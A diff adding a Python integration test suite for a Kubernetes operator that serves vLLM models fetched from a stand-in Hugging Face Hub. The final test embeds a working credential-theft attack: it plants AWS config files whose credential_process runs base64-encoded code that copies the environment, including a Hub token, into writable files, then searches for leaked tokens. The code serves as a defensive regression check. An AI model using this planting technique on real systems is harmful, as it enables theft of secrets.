@@ -1,0 +1,454 @@
+"""vLLM on real pods: an `engine: vllm` InferenceService from the operator's Deployment, run by a
+kubelet, in the vLLM image built from the shipped vllm/Dockerfile (its CPU variant).
+
+A tiny random Llama and a LoRA adapter, made here, are served by a stand-in of the Hugging Face
+Hub over https on the tier's bridge (a certificate from the tier's CA, which the chart's
+model-fetch CA setting trusts) and fetched as a user's model would be: by the pod's model-fetch
+init container and its adapters sidecar, with a Hub token from a Secret. The tests run in order on
+one cluster and one InferenceService, in namespaces that enforce Pod Security `restricted`.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import http.server
+import json
+import pathlib
+import re
+import secrets
+import time
+import urllib.parse
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from typing import Any
+
+import httpx
+import pytest
+
+from tests.llm.conftest import tiny_llama  # noqa: F401  (a fixture)
+from tests.llm.tiny_lora import adapter_files
+from tests.pods.conftest import (
+    FIGURES,
+    OPERATOR_NAMESPACE,
+    apply,
+    bridge_server,
+    helm_install,
+    kubectl_json,
+    namespace,
+    pods,
+    tier,
+    wait_ready_pods,
+)
+from testsupport import images
+from testsupport.cluster import condition, wait_for
+from testsupport.nodecluster import NODE_IP, NodeCluster
+
+# The first test also waits for the tier: its images (the vLLM image is 2.7 GB to import) and cluster.
+pytestmark = [pytest.mark.pods, pytest.mark.slow, pytest.mark.timeout(900)]
+
+NS = "llm"
+NAME = "tiny"
+RELEASE = "rio-llm"
+SELECTOR = f"app.kubernetes.io/instance={NAME},app.kubernetes.io/component=predictor"
+COMMIT = "5d0c1e4b2f7a9c3e8b6d4f2a0c9e7b5d3f1a8c6e"
+# The Hub token: in a Secret, given to the model fetch and the adapters sidecar, never to vLLM.
+TOKEN = f"hf_tier_{secrets.token_hex(16)}"
+PROMPT = "the operator scales the model"
+# Without one, vLLM refuses /v1/chat/completions for a model whose tokenizer has no template.
+CHAT_TEMPLATE = "{% for message in messages %}{{ message['content'] }} {% endfor %}"
+
+
+@dataclass
+class Hub:
+    """What the stand-in Hub serves (repository id -> files) and who asked for what."""
+
+    repos: dict[str, dict[str, bytes]]
+    url: str = ""
+    ca: pathlib.Path = pathlib.Path()
+    requests: list[tuple[str, str | None]] = field(default_factory=list)  # (path, Authorization)
+
+    def tree(self, repo: str) -> list[dict[str, Any]]:
+        """The tree the Hub publishes: each file's git blob id, and an LFS file's sha256."""
+        entries = []
+        for path, data in self.repos[repo].items():
+            entry: dict[str, Any] = {"type": "file", "oid": git_blob_id(data), "size": len(data), "path": path}
+            if path.endswith(".safetensors"):
+                entry["lfs"] = {"oid": hashlib.sha256(data).hexdigest(), "size": len(data), "pointerSize": 134}
+            entries.append(entry)
+        return entries
+
+
+def git_blob_id(data: bytes) -> str:
+    return hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()
+
+
+def hub_handler(hub: Hub) -> type[http.server.BaseHTTPRequestHandler]:
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
+            pass
+
+        def do_HEAD(self) -> None:  # noqa: N802
+            self.answer(body=False)
+
+        def do_GET(self) -> None:  # noqa: N802
+            self.answer(body=True)
+
+        def reply(
+            self, data: bytes, status: int = 200, headers: dict[str, str] | None = None, body: bool = True
+        ) -> None:
+            self.send_response(status)
+            for name, value in {"Content-Type": "application/json", **(headers or {})}.items():
+                self.send_header(name, value)
+            self.send_header("Content-Length", str(len(data)))
+            self.end_headers()
+            if body:
+                self.wfile.write(data)
+
+        def answer(self, body: bool) -> None:
+            path = urllib.parse.unquote(urllib.parse.urlsplit(self.path).path)
+            hub.requests.append((path, self.headers.get("Authorization")))
+            api = re.match(r"^/api/models/([^/]+/[^/]+)/(revision|tree)/([^/]+)", path)
+            if api and api[1] in hub.repos:
+                if api[2] == "revision":
+                    siblings = [{"rfilename": f} for f in hub.repos[api[1]]]
+                    info = {"id": api[1], "sha": COMMIT, "siblings": siblings}
+                    return self.reply(json.dumps(info).encode(), body=body)
+                return self.reply(json.dumps(hub.tree(api[1])).encode(), body=body)
+            resolve = re.match(rf"^/([^/]+/[^/]+)/resolve/{COMMIT}/(.+)$", path)
+            files = hub.repos.get(resolve[1], {}) if resolve else {}
+            if resolve and resolve[2] in files:
+                data = files[resolve[2]]
+                lfs = resolve[2].endswith(".safetensors")
+                etag = hashlib.sha256(data).hexdigest() if lfs else git_blob_id(data)
+                headers = {"Content-Type": "application/octet-stream", "X-Repo-Commit": COMMIT, "ETag": f'"{etag}"'}
+                return self.reply(data, headers=headers, body=body)
+            self.reply(b'{"error": "Repository not found"}', status=404, body=body)
+
+    return Handler
+
+
+def hub_repos(model_dir: pathlib.Path) -> dict[str, dict[str, bytes]]:
+    model = {p.name: p.read_bytes() for p in sorted(model_dir.iterdir()) if p.is_file()}
+    tokenizer = json.loads(model["tokenizer_config.json"])
+    model["tokenizer_config.json"] = json.dumps({**tokenizer, "chat_template": CHAT_TEMPLATE}).encode()
+    return {"org/tiny-llama": model, "org/sql-lora": adapter_files(seed=1)}
+
+
+@pytest.fixture(scope="module")
+def node(image_archives: list[pathlib.Path], vllm_archive: pathlib.Path) -> Iterator[NodeCluster]:
+    with tier([*image_archives, vllm_archive]) as cluster:
+        yield cluster
+
+
+@pytest.fixture(scope="module")
+def hub(node: NodeCluster, tiny_llama: pathlib.Path) -> Iterator[Hub]:  # noqa: F811
+    state = Hub(hub_repos(tiny_llama))
+    with bridge_server(hub_handler(state), node) as server:
+        state.url, state.ca = server.url, server.ca
+        yield state
+
+
+@pytest.fixture(scope="module")
+def release(node: NodeCluster, hub: Hub, tmp_path_factory: pytest.TempPathFactory) -> dict:
+    apply(node, namespace(OPERATOR_NAMESPACE), namespace(NS))
+    repository, tag = images.OPERATOR_IMAGE.rsplit(":", 1)
+    values = {
+        "image": {"repository": repository, "tag": tag, "pullPolicy": "Never"},
+        "images": {"modelServer": images.MODEL_SERVER_IMAGE, "vllm": images.vllm_image()},
+        "replicaCount": 1,
+        "modelFetch": {"caBundle": hub.ca.read_text()},
+        # The stand-in Hub is the platform's mirror: a token may be sent there.
+        "huggingFace": {"tokenEndpoints": [hub.url]},
+        "resources": {"requests": {"cpu": "50m", "memory": "128Mi"}, "limits": {"cpu": "1", "memory": "512Mi"}},
+    }
+    return helm_install(node, RELEASE, values, tmp_path_factory.mktemp("helm"))
+
+
+def inference_service(hub: Hub, adapters: list[dict[str, str]]) -> dict:
+    return {
+        "apiVersion": "inference.rocm.dev/v1alpha1",
+        "kind": "InferenceService",
+        "metadata": {"name": NAME, "namespace": NS},
+        "spec": {
+            "model": {"uri": "hf://org/tiny-llama", "huggingFace": {"endpoint": hub.url, "tokenSecret": "hf"}},
+            "runtime": {
+                "engine": "vllm",
+                "imagePullPolicy": "Never",
+                "maxModelLen": 256,
+                "lora": {"maxLoras": 2, "maxLoraRank": 8},
+                "env": [
+                    # What a CPU node needs instead of a GPU's memory: the KV cache in host RAM (GiB).
+                    {"name": "VLLM_CPU_KVCACHE_SPACE", "value": "1"},
+                    # S3 for s3:// adapters: the bridge, where nothing answers S3.
+                    {"name": "AWS_ENDPOINT_URL", "value": f"https://{NODE_IP}:9"},
+                    {"name": "AWS_REGION", "value": "us-east-1"},
+                ],
+            },
+            "resources": {"gpu": {"count": 0}, "cpu": "1500m", "memory": "4Gi"},
+            "adapters": adapters,
+        },
+    }
+
+
+SQL = {"name": "sql", "uri": "hf://org/sql-lora"}
+
+
+def ris(node: NodeCluster) -> dict:
+    return kubectl_json(node, "get", "ris", NAME, "-n", NS)
+
+
+def service_address(node: NodeCluster) -> str:
+    service = kubectl_json(node, "get", "service", NAME, "-n", NS)
+    return f"{service['spec']['clusterIP']}:{service['spec']['ports'][0]['port']}"
+
+
+def vllm_pod(node: NodeCluster) -> str:
+    (pod,) = [p for p in pods(node, NS, SELECTOR) if not p["metadata"].get("deletionTimestamp")]
+    return str(pod["metadata"]["name"])
+
+
+def in_vllm(node: NodeCluster, script: str, timeout: float = 120) -> str:
+    """Run Python in the running vLLM container, as its process runs: its user, mounts and env."""
+    done = node.kubectl("exec", "-n", NS, vllm_pod(node), "-c", "vllm", "--", "python3", "-c", script, check=False)
+    assert done.returncode == 0, f"exec in the vLLM container failed:\n{done.stdout}\n{done.stderr}"
+    return done.stdout
+
+
+def complete(address: str, model: str, chat: bool = False, stream: bool = False) -> str:
+    """The text of one completion over the Service (streamed: the chunks' text joined)."""
+    body: dict[str, Any] = {"model": model, "max_tokens": 8, "temperature": 0, "stream": stream}
+    if chat:
+        body["messages"] = [{"role": "user", "content": PROMPT}]
+    else:
+        body["prompt"] = PROMPT
+    path = "/v1/chat/completions" if chat else "/v1/completions"
+    with httpx.stream("POST", f"http://{address}{path}", json=body, timeout=60) as response:
+        raw = response.read().decode()
+        assert response.status_code == 200, raw
+    if not stream:
+        choice = json.loads(raw)["choices"][0]
+        return str(choice["message"]["content"] if chat else choice["text"])
+    events = [line.removeprefix("data: ") for line in raw.splitlines() if line.startswith("data: ")]
+    assert events[-1] == "[DONE]", raw
+    chunks = [json.loads(e)["choices"] for e in events[:-1]]
+    return "".join(c[0]["delta"].get("content") or "" if chat else c[0]["text"] for c in chunks if c)
+
+
+def test_a_vllm_service_fetches_its_model_from_the_hub_and_turns_ready(
+    node: NodeCluster, release: dict, hub: Hub
+) -> None:
+    secret = {
+        "apiVersion": "v1",
+        "kind": "Secret",
+        "metadata": {"name": "hf", "namespace": NS, "labels": {"inference.rocm.dev/model-credentials": "true"}},
+        "stringData": {"token": TOKEN},
+    }
+    apply(node, secret)
+    applied = time.monotonic()
+    apply(node, inference_service(hub, [SQL]))
+    wait_ready_pods(node, NS, SELECTOR, 1, timeout=420)
+    FIGURES["vLLM InferenceService applied to Ready pod (s)"] = time.monotonic() - applied
+    FIGURES["images imported into the node's containerd, vLLM's included (s)"] = node.import_seconds
+    wait_for(lambda: (condition(ris(node), "Ready") or {}).get("status") == "True", timeout=60, message="Ready")
+    address = service_address(node)
+    started = time.monotonic()
+    complete(address, NAME)
+    FIGURES["vLLM first completion over the ClusterIP (s)"] = time.monotonic() - started
+    # The model came through the Hub with the Secret's token (the fetcher sent it).
+    assert ("/api/models/org/tiny-llama/revision/main", f"Bearer {TOKEN}") in hub.requests
+
+
+def test_openai_completions_and_chat_stream_and_not_from_the_host_and_from_a_pod(node: NodeCluster) -> None:
+    address = service_address(node)
+    answers = {
+        (chat, stream): complete(address, NAME, chat, stream) for chat in (False, True) for stream in (False, True)
+    }
+    assert all(answers.values()), answers
+    # Greedy decoding: streamed or not, the same text.
+    assert answers[(False, False)] == answers[(False, True)] and answers[(True, False)] == answers[(True, True)]
+    script = (
+        "import json, urllib.request\n"
+        "for path, body in (('/v1/completions', {'prompt': 'the model'}),"
+        " ('/v1/chat/completions', {'messages': [{'role': 'user', 'content': 'the model'}]})):\n"
+        "    for stream in (False, True):\n"
+        f"        data = json.dumps({{'model': '{NAME}', 'max_tokens': 4, 'stream': stream, **body}}).encode()\n"
+        f"        request = urllib.request.Request('http://{address}' + path, data=data,"
+        " headers={'Content-Type': 'application/json'})\n"
+        "        with urllib.request.urlopen(request, timeout=60) as r:\n"
+        "            text = r.read().decode()\n"
+        "        print(path, stream, r.status, text.rstrip().endswith('[DONE]') if stream else 'choices' in text)\n"
+        "try:\n"
+        f"    urllib.request.urlopen(urllib.request.Request('http://{address}/v1/load_lora_adapter',"
+        " data=json.dumps({'lora_name': 'mine', 'lora_path': '/tmp'}).encode(),"
+        " headers={'Content-Type': 'application/json'}), timeout=30)\n"
+        "    print('load', 200)\n"
+        "except urllib.error.HTTPError as e:\n"
+        "    print('load', e.code)\n"
+    )
+    output = run_client_pod(node, "client", script)
+    assert output.split("\n") == [
+        "/v1/completions False 200 True",
+        "/v1/completions True 200 True",
+        "/v1/chat/completions False 200 True",
+        "/v1/chat/completions True 200 True",
+        # Only the pod itself may manage adapters: the guard vLLM loads refuses another pod.
+        "load 403",
+    ], output
+
+
+def run_client_pod(node: NodeCluster, name: str, script: str) -> str:
+    client = {
+        "apiVersion": "v1",
+        "kind": "Pod",
+        "metadata": {"name": name, "namespace": NS},
+        "spec": {
+            "restartPolicy": "Never",
+            "automountServiceAccountToken": False,
+            "securityContext": {"runAsNonRoot": True, "runAsUser": 1000, "seccompProfile": {"type": "RuntimeDefault"}},
+            "containers": [
+                {
+                    "name": "client",
+                    "image": images.MODEL_SERVER_IMAGE,
+                    "imagePullPolicy": "Never",
+                    "command": ["python", "-c", script],
+                    "securityContext": {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}},
+                }
+            ],
+        },
+    }
+    apply(node, client)
+    phase = wait_for(
+        lambda: (
+            kubectl_json(node, "get", "pod", name, "-n", NS)["status"].get("phase") in ("Succeeded", "Failed")
+            and kubectl_json(node, "get", "pod", name, "-n", NS)["status"]["phase"]
+        ),
+        timeout=120,
+        message=f"the {name} pod to finish",
+    )
+    output = node.kubectl("logs", name, "-n", NS).stdout.strip()
+    assert phase == "Succeeded", output
+    return output
+
+
+def adapter_state(node: NodeCluster, name: str) -> str | None:
+    entry = next((a for a in (ris(node).get("status") or {}).get("adapters") or [] if a["name"] == name), None)
+    return entry["state"] if entry else None
+
+
+def test_the_adapter_is_served_and_answers_differently_and_status_follows(node: NodeCluster, hub: Hub) -> None:
+    wait_for(lambda: adapter_state(node, "sql") == "Ready", timeout=120, message="status.adapters sql Ready")
+    ready = condition(ris(node), "AdaptersReady") or {}
+    assert ready.get("status") == "True", ready
+    address = service_address(node)
+    models = httpx.get(f"http://{address}/v1/models", timeout=10).json()["data"]
+    assert {m["id"] for m in models} == {NAME, "sql"}
+    assert complete(address, "sql") != complete(address, NAME), "the adapter changed nothing"
+    assert complete(address, "sql", chat=True, stream=True) == complete(address, "sql", chat=True)
+    # The sidecar fetched it from the Hub with the token.
+    assert ("/api/models/org/sql-lora/revision/main", f"Bearer {TOKEN}") in hub.requests
+
+
+def sidecar_restarts(node: NodeCluster) -> int:
+    (pod,) = pods(node, NS, SELECTOR)
+    statuses = pod["status"].get("initContainerStatuses") or []
+    return sum(s.get("restartCount", 0) for s in statuses if s["name"] == "adapters")
+
+
+# Run in the vLLM container: write an AWS config whose credential_process copies its environment
+# (the sidecar's, with HF_TOKEN) into every directory the process running it can write, into
+# every directory this container can write; print those directories.
+PLANT = """
+import base64, os
+steal = base64.b64decode({steal!r}).decode()
+config = "[default]\\ncredential_process = python3 -c \\"import base64; exec(base64.b64decode('%s'))\\"\\n" % (
+    base64.b64encode(steal.encode()).decode())
+mounts = sorted({{line.split()[4] for line in open("/proc/self/mountinfo")}} - {{"/"}})
+written = []
+for mount in mounts:
+    for top, dirs, files in os.walk(mount):
+        if top.startswith(("/proc", "/sys")):
+            dirs.clear()
+        elif os.access(top, os.W_OK):
+            for name in (".aws", "aws", ".config/aws"):
+                try:
+                    os.makedirs(os.path.join(top, name), exist_ok=True)
+                    for file in ("config", "credentials"):
+                        with open(os.path.join(top, name, file), "w") as out:
+                            out.write(config)
+                    written.append(os.path.join(top, name))
+                except OSError:
+                    pass
+print("\\n".join(written))
+"""
+STEAL = """
+import os
+for line in open("/proc/self/mountinfo"):
+    point = line.split()[4]
+    if os.access(point, os.W_OK) and not point.startswith(("/proc", "/sys")):
+        try:
+            with open(os.path.join(point, "stolen-%d" % os.getpid()), "w") as out:
+                out.write(repr(dict(os.environ)))
+        except OSError:
+            pass
+"""
+# Run in the vLLM container: every file it can read under its mounts (its image's own files
+# aside) and every /proc entry it can see; print the paths that hold `token`.
+SEARCH = """
+import os, stat
+token = {reversed_token!r}[::-1].encode()  # not the token itself: this command line is readable too
+roots = sorted({{line.split()[4] for line in open("/proc/self/mountinfo")}} - {{"/"}})
+found, read = [], 0
+def look(path, regular=True):
+    global read
+    try:
+        if regular and not stat.S_ISREG(os.lstat(path).st_mode):
+            return
+        with open(path, "rb") as f:
+            data = f.read(256 << 20)
+    except OSError:
+        return
+    read += 1
+    if token in data:
+        found.append(path)
+for root in roots:
+    if root.startswith(("/proc", "/sys")):
+        continue
+    for top, dirs, files in os.walk(root):
+        for name in files:
+            look(os.path.join(top, name))
+for pid in os.listdir("/proc"):
+    if pid.isdigit() or pid == "self":
+        for entry in ("environ", "cmdline", "mountinfo", "status"):
+            look(os.path.join("/proc", pid, entry), regular=False)
+print(read)
+print("\\n".join(found))
+"""
+
+
+def test_the_hub_token_never_reaches_the_vllm_container(node: NodeCluster, hub: Hub) -> None:
+    """Issue 25 H1: code the author runs in the vLLM container (their model's, or runtime.env's)
+    plants an AWS config with a credential_process in every directory it can write, then an
+    s3:// adapter makes the sidecar, which holds HF_TOKEN, resolve S3 credentials."""
+    steal = base64.b64encode(STEAL.encode()).decode()
+    planted = in_vllm(node, PLANT.format(steal=steal)).split()
+    assert "/tmp/.aws" in planted, planted  # the vLLM container's HOME is writable
+    apply(node, inference_service(hub, [SQL, {"name": "stolen", "uri": "s3://bucket/adapter"}]))
+    # The sidecar has tried the s3:// adapter (and resolved its credentials) once it reports it,
+    # or once it has exited over it.
+    wait_for(
+        lambda: adapter_state(node, "stolen") in ("Ready", "Failed") or sidecar_restarts(node) > 0,
+        timeout=120,
+        message="the sidecar's verdict on the s3:// adapter",
+    )
+    # The token is live in the pod: the sidecar sent it to the Hub.
+    assert any(auth == f"Bearer {TOKEN}" and "sql-lora" in path for path, auth in hub.requests)
+    search = SEARCH.format(reversed_token=TOKEN[::-1])
+    read, *found = in_vllm(node, search).split("\n")
+    assert int(read) > 10, read
+    assert [f for f in found if f] == [], f"the Hub token is readable in the vLLM container: {found}"
+    # What the search reads would show it: the same search finds a planted copy.
+    in_vllm(node, f"open('/tmp/canary', 'w').write({TOKEN[::-1]!r}[::-1])")
+    assert "/tmp/canary" in in_vllm(node, search).split("\n"), "the search misses a readable file"
+    in_vllm(node, "import os; os.remove('/tmp/canary')")
+    wait_for(lambda: adapter_state(node, "sql") == "Ready", timeout=30, message="sql still Ready")
